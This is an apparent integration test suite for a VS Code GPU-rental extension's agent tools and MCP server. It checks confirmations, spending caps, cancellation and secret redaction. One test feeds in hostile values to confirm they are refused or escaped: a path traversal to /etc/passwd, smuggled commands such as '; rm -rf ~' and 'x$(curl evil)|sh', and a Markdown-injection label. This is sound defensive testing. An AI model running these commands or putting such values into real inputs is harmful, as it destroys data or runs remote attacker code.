// The language-model tools inside a real VS Code, called as VS Code's agent calls them:
// vscode.lm.invokeTool (stable since 1.95; code-server 4.100.3 has it), which runs the tool's
// prepareInvocation, its confirmation and invoke. VS Code's extension test host answers every
// confirmation dialog with Yes without showing it (its dialog service skips dialogs in extension
// tests), so here a confirmed call is one the user agreed to, and the confirmation's text is
// checked through the extension's API (agentTools.prepare, the same prepareInvocation).
import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { describe, it, afterEach, getExtensionApi, waitFor, uiCheckpoint, simUrl } from './framework';
import { simControl } from './sim';
import { dropRentalsAndSshHome, signedInWithSshHome } from './testKey';
import { readInflight } from '../../../src/create/createFlow';
import { SCRIPT_VAR } from '../../../src/guard/plan';
import type { Services } from '../../../src/core/vscode/services';

const TEMPLATE = '.gpu/pytorch.json';
const LABEL = /^PyTorch-on-one-RTX-4090-[0-9a-z]{4}$/;
const SIM_KEY = 'sim-api-key';

interface LmTesting {
  tools?: readonly { name: string }[];
  invokeTool?(
    name: string,
    options: { input: object; toolInvocationToken: undefined },
    token?: vscode.CancellationToken,
  ): Thenable<{ content: readonly unknown[] }>;
}
const lm = (vscode as unknown as { lm?: LmTesting }).lm;

/** The tool's text through VS Code's own invocation path (prepareInvocation, confirmation, invoke). */
async function call(name: string, input: object): Promise<string> {
  assert.ok(lm?.invokeTool, 'vscode.lm.invokeTool exists in this VS Code');
  const r = await lm.invokeTool(`gpuRental_${name}`, { input, toolInvocationToken: undefined });
  return r.content.map((p) => String((p as { value?: unknown }).value ?? '')).join('');
}

/** The error a refused call throws (its message is what a model reads). */
async function refusal(name: string, input: object): Promise<string> {
  try {
    const text = await call(name, input);
    assert.fail(`${name} was not refused: ${text}`);
  } catch (e) {
    if (e instanceof assert.AssertionError) throw e;
    return e instanceof Error ? e.message : String(e);
  }
}

async function creations(): Promise<number> {
  return (await simControl().requests()).filter((r) => r.method === 'PUT' && r.path.includes('/asks/')).length;
}

function noSecret(text: string, secrets: readonly (string | null | undefined)[]): void {
  for (const s of [SIM_KEY, ...secrets]) if (s && s.length >= 6) assert.ok(!text.includes(s), 'a secret is in a tool result');
}

let home: string | undefined;

/** The registered test key's id on the account (signedIn). */
let keyId: number | undefined;

async function signedIn(): Promise<Services> {
  const { services } = await getExtensionApi();
  const signed = await signedInWithSshHome(services, 'gpu-rental-agent-it-');
  home = signed.home;
  keyId = signed.key?.id;
  return services;
}

async function setGlobal(key: string, value: unknown): Promise<void> {
  await vscode.workspace.getConfiguration('gpuRental').update(key, value, vscode.ConfigurationTarget.Global);
}

describe('agent tools', () => {
  afterEach(async () => {
    delete process.env.GPU_RENTAL_TEST_AGENT_POLL_MS;
    await setGlobal('budget.monthly', undefined);
    await setGlobal('agent.maxPricePerHour', undefined);
    await dropRentalsAndSshHome((await getExtensionApi()).services, LABEL, home);
    home = undefined;
  });

  it('registers one tool per entry of package.json (the catalogue), and lists them to VS Code', async () => {
    await getExtensionApi();
    const ext = vscode.extensions.getExtension('gpurental.gpu-rental')!;
    const declared = (ext.packageJSON.contributes.languageModelTools as { name: string }[]).map((t) => t.name).sort();
    assert.ok(declared.length >= 12, `${declared.length} tools declared`);
    const listed = (lm?.tools ?? [])
      .map((t) => t.name)
      .filter((n) => n.startsWith('gpuRental_'))
      .sort();
    assert.deepEqual(listed, declared);
  });

  it(
    'read-only tools answer without a question: search (filters and the CLI query), list, details, spending, logs, price increases, SSH info; no secret in any; then a price increase rejected',
    async () => {
      const services = await signedIn();
      await simControl().seed({ instances: 1 });
      await services.instances.refresh();
      const inst = (await (await services.api()).listInstances()).instances[0]!;
      const full = await (await services.api()).showInstance(inst.id);
      const secrets = [full.jupyter_token, services.connectionState.token()];

      const offers = await call('search_offers', { gpu_names: ['RTX 4090'], num_gpus: 1, limit: 3 });
      assert.match(offers, /RTX 4090/);
      assert.match(offers, /\$\d+\.\d+\/h/);
      const queried = await call('search_offers', { query: 'num_gpus=1 gpu_name=RTX_4090', limit: 2 });
      assert.match(queried, /RTX 4090/);
      const list = await call('list_instances', {});
      assert.match(list, new RegExp(`\\b${inst.id}\\b`));
      const details = await call('instance_details', { instance_id: inst.id });
      assert.match(details, new RegExp(`\\b${inst.id}\\b`));
      const spending = await call('spending', {});
      assert.match(spending, /\$/);
      const logs = await call('instance_logs', { instance_id: inst.id, tail: 20 });
      const increase = await simControl().priceIncrease(inst.id, { gpuFactor: 1.5 });
      const increases = await call('price_increases', {});
      assert.match(increases, new RegExp(`\\b${increase}\\b`));
      const ssh = await call('ssh_info', { instance_id: inst.id });
      assert.match(ssh, /ssh /);
      for (const text of [offers, queried, list, details, spending, logs, increases, ssh]) noSecret(text, secrets);
      assert.equal(await creations(), 0);
      // The one price tool: its confirmation (answered Yes by the test host), then the decision.
      const prepared = await (await getExtensionApi()).agentTools!.prepare('gpuRental_decide_price_increase', { increase_id: increase, decision: 'reject' });
      assert.match(prepared.confirmationMessages?.title ?? '', /^Reject price increase/);
      assert.match(await call('decide_price_increase', { increase_id: increase, decision: 'reject' }), /reject/i);
    },
    { timeoutMs: 60_000 },
  );

  it(
    'bad input is a clear tool error and sends nothing: negative, huge and unknown ids, a hostile template path and image, the per-hour cap setting, a budget that would break, no SSH key on the account',
    async () => {
      const services = await signedIn();
      assert.match(await refusal('instance_details', { instance_id: -3 }), /instance_id must be at least 1/);
      assert.match(await refusal('instance_logs', { instance_id: 1, tail: 1e9 }), /tail must be at most/);
      assert.match(await refusal('instance_details', { instance_id: 987654 }), /not in this account's instance list/);
      assert.match(await refusal('rent', { template: '../../../etc/passwd' }), /inside the workspace folder/);
      assert.match(await refusal('rent', { template: '.gpu/x.json; rm -rf ~' }), /inside the workspace folder/);
      assert.match(await refusal('rent', { image: 'x$(curl evil)|sh' }), /image name is not valid/);
      assert.match(await refusal('decide_price_increase', { increase_id: 424242, decision: 'accept' }), /\b424242\b/);
      // The agents' per-hour cap: a tenth of a cent an hour rents nothing, and the refusal names the setting.
      await setGlobal('agent.maxPricePerHour', 0.001);
      await waitFor(() => services.settings().agent.maxPricePerHour === 0.001, 5000, 'the cap read');
      assert.match(
        await refusal('rent', { template: TEMPLATE }),
        /above the per-hour cap for agents \(\$0\.001\/h, set by the setting gpuRental\.agent\.maxPricePerHour\)\. Nothing was sent/,
      );
      await setGlobal('agent.maxPricePerHour', undefined);
      // The budget: one cent a month cannot take a machine for an hour.
      await setGlobal('budget.monthly', 0.01);
      await waitFor(() => services.settings().budget.monthly === 0.01, 5000, 'the budget read');
      assert.match(await refusal('rent', { template: TEMPLATE }), /monthly budget.*Nothing was sent/s);
      await setGlobal('budget.monthly', undefined);
      // No key of this machine on the account: refused with how to add one.
      assert.ok(keyId, 'the test key was registered');
      await (await services.api()).deleteSshKey(keyId);
      assert.match(await refusal('rent', { template: TEMPLATE }), /^Nothing was rented: your account has no SSH public key .*"GPU Rental: Add SSH Key…"/s);
      assert.equal(await creations(), 0, 'nothing rented');
      assert.equal(
        (await simControl().requests()).filter((r) => r.method !== 'GET' && !r.path.includes('/bundles') && !r.path.includes('/ssh')).length,
        0,
        'nothing but reads sent',
      );
    },
    { timeoutMs: 60_000 },
  );

  it(
    'confirmations: none for reads and stop; rent shows $/h, the guard and the budget; hostile label text is escaped Markdown',
    async () => {
      const { services, agentTools } = await getExtensionApi();
      assert.ok(agentTools, 'the tool API exists here');
      await signedIn();
      await simControl().seed({ instances: 1 });
      const inst = (await (await services.api()).listInstances()).instances[0]!;
      for (const [name, input] of [
        ['list_instances', {}],
        ['instance_details', { instance_id: inst.id }],
        ['stop_instance', { instance_id: inst.id }],
      ] as const) {
        const p = await agentTools.prepare(`gpuRental_${name}`, input);
        assert.equal(p.confirmationMessages, undefined, `${name} asks nothing`);
        assert.match(String(p.invocationMessage), /^GPU Rental: /);
      }
      const rent = await agentTools.prepare('gpuRental_rent', { template: TEMPLATE });
      assert.equal(rent.confirmationMessages?.title, 'Rent a GPU machine?');
      const text = (rent.confirmationMessages?.message as vscode.MarkdownString).value;
      assert.match(text, /\$\d+\\\.\d+\/h/, 'price per hour');
      assert.match(text, /[Gg]uard/);
      assert.match(text, /Budget/);
      assert.equal(await creations(), 0, 'a confirmation rents nothing');

      const hostile = '**x** [y](https://e.vil) <img src=x> `rm -rf ~`';
      await (await services.api()).setInstanceLabel(inst.id, hostile);
      const destroy = await agentTools.prepare('gpuRental_destroy_instance', { instance_id: inst.id, confirm: String(inst.id) });
      assert.match(destroy.confirmationMessages?.title ?? '', /^Destroy instance/);
      const md = (destroy.confirmationMessages?.message as vscode.MarkdownString).value;
      assert.ok(!/(^|[^\\])[[\]<>()*`]/.test(md), `unescaped Markdown in: ${md}`);
      assert.equal((await simControl().requests()).filter((r) => r.method === 'DELETE').length, 0, 'nothing destroyed');
    },
    { timeoutMs: 60_000 },
  );

  it(
    'rent through invokeTool (confirmed): exactly one machine through the create flow, guard in its onstart, the row in the Instances view (screenshot); stop, start, destroy',
    async () => {
      const services = await signedIn();
      process.env.GPU_RENTAL_TEST_AGENT_POLL_MS = '250';
      const before = await creations();
      const result = call('rent', { template: TEMPLATE });
      const row = await waitFor(() => services.instances.instances.find((i) => LABEL.test(i.label ?? '')), 15_000, 'the new row');
      await simControl().finishBoot(row.id);
      const text = await result;
      assert.match(text, new RegExp(`Rented instance ${row.id}: running`));
      assert.equal((await creations()) - before, 1, 'exactly one machine');
      assert.deepEqual(readInflight(services.globalState), [], 'no rental left in flight');
      const api = await services.api();
      const full = await api.showInstance(row.id);
      assert.ok(full.onstart?.includes(SCRIPT_VAR), 'the idle guard is in its onstart');
      noSecret(text, [full.jupyter_token, services.connectionState.token()]);
      await services.instances.refresh();
      await vscode.commands.executeCommand('gpuRental.instances.focus');
      assert.match(await uiCheckpoint('agent-rented'), /^(ok|skipped)$/);

      assert.match(await call('stop_instance', { instance_id: row.id }), new RegExp(`\\b${row.id}\\b`));
      await waitFor(async () => (await api.showInstance(row.id)).intended_status === 'stopped', 10_000, 'stopped');
      await call('start_instance', { instance_id: row.id });
      await waitFor(async () => (await api.showInstance(row.id)).intended_status === 'running', 10_000, 'started');
      // Destroy needs the label or id echoed back: a wrong echo destroys nothing.
      assert.match(await refusal('destroy_instance', { instance_id: row.id, confirm: 'something-else' }), /label|id/);
      assert.equal((await simControl().requests()).filter((r) => r.method === 'DELETE').length, 0, 'nothing destroyed');
      await call('destroy_instance', { instance_id: row.id, confirm: row.label! });
      assert.equal(
        (await api.listInstances()).instances.some((i) => i.id === row.id),
        false,
      );
      assert.equal((await creations()) - before, 1, 'still exactly one machine');
    },
    { timeoutMs: 120_000 },
  );

  it(
    'a cancelled chat request stops the wait, not the rent: the answer says the machine is still being created; the flow goes on to running and its SSH entry',
    async () => {
      const { agentTools } = await getExtensionApi();
      const services = await signedIn();
      process.env.GPU_RENTAL_TEST_AGENT_POLL_MS = '250';
      const cancel = new vscode.CancellationTokenSource();
      const before = await creations();
      // VS Code's own order: prepareInvocation (its confirmation, answered Yes), then invoke with the chat's token.
      await agentTools!.prepare('gpuRental_rent', { template: TEMPLATE });
      const result = agentTools!.invoke('gpuRental_rent', { template: TEMPLATE }, cancel.token);
      const row = await waitFor(() => services.instances.instances.find((i) => LABEL.test(i.label ?? '')), 15_000, 'the new row');
      cancel.cancel();
      const text = (await result).content.map((p) => String((p as { value?: unknown }).value ?? '')).join('');
      assert.match(text, new RegExp(`^The wait was cancelled, not the rent: instance ${row.id} is rented .* still being created`));
      assert.deepEqual(
        readInflight(services.globalState).map((r) => r.instanceId),
        [row.id],
        'tracked in flight as after a click',
      );
      await simControl().finishBoot(row.id);
      await waitFor(() => readInflight(services.globalState).length === 0, 15_000, 'the flow to reach running and drop its record');
      assert.match(await call('ssh_info', { instance_id: row.id }), /ssh alias: /, 'its SSH entry is written');
      assert.equal((await creations()) - before, 1, 'exactly one machine');
      cancel.dispose();
    },
    { timeoutMs: 60_000 },
  );

  it(
    "the MCP server for VS Code's agent: listed without the key; resolved, the extension host's Node runs dist/mcp.js with this window's URL and key, and it answers",
    async () => {
      const { agentTools } = await getExtensionApi();
      const services = await signedIn();
      await simControl().seed({ instances: 1 });
      const inst = (await (await services.api()).listInstances()).instances[0]!;
      await setGlobal('agent.maxPricePerHour', 2);
      await waitFor(() => services.settings().agent.maxPricePerHour === 2, 5000, 'the cap read');
      const def = await agentTools!.mcpServer();
      assert.ok(def, 'a server is offered when signed in');
      assert.equal(def.resolved.env.GPU_RENTAL_MAX_DPH, '2', "the agents' per-hour cap goes to the server");
      assert.equal(def.listed.env.VAST_API_KEY, undefined, 'the listed (cached) definition carries no key');
      assert.ok(!JSON.stringify(def.listed).includes(SIM_KEY));
      const { command, args, env } = def.resolved;
      assert.equal(command, process.execPath);
      assert.deepEqual(
        args.map((a) => a.replace(/\\/g, '/').split('/').slice(-2).join('/')),
        ['dist/mcp.js'],
      );
      assert.ok(!args.join(' ').includes(SIM_KEY), 'no key on the command line');
      assert.equal(env.VAST_URL, simUrl());
      assert.equal(env.VAST_API_KEY, SIM_KEY);
      const dir = mkdtempSync(join(tmpdir(), 'gpu-rental-agent-mcp-'));
      const client = new Client({ name: 'gpu-rental-vscode-test', version: '1.0.0' });
      try {
        const childEnv = Object.fromEntries(
          Object.entries({ PATH: process.env.PATH ?? '', HOME: dir, GPU_RENTAL_CONFIG_DIR: dir, ...env }).map(([k, v]) => [k, String(v)]),
        );
        await client.connect(new StdioClientTransport({ command, args, env: childEnv, stderr: 'ignore' }));
        const names = (await client.listTools()).tools.map((t) => t.name).sort();
        const declared = (vscode.extensions.getExtension('gpurental.gpu-rental')!.packageJSON.contributes.languageModelTools as { toolReferenceName: string }[])
          .map((t) => t.toolReferenceName)
          .sort();
        assert.deepEqual(names, declared, 'the same tools as in VS Code');
        const r = (await client.callTool({ name: 'list_instances', arguments: {} })) as { content: { text?: string }[] };
        const text = r.content.map((c) => c.text ?? '').join('\n');
        assert.match(text, new RegExp(`\\b${inst.id}\\b`));
        noSecret(text, []);
      } finally {
        await client.close();
        rmSync(dir, { recursive: true, force: true });
      }
    },
    { timeoutMs: 60_000 },
  );

  it('signed out, no MCP server is offered', async () => {
    const { agentTools } = await getExtensionApi();
    await vscode.commands.executeCommand('gpuRental.clearApiKey');
    assert.equal(await agentTools!.mcpServer(), undefined);
  });
});
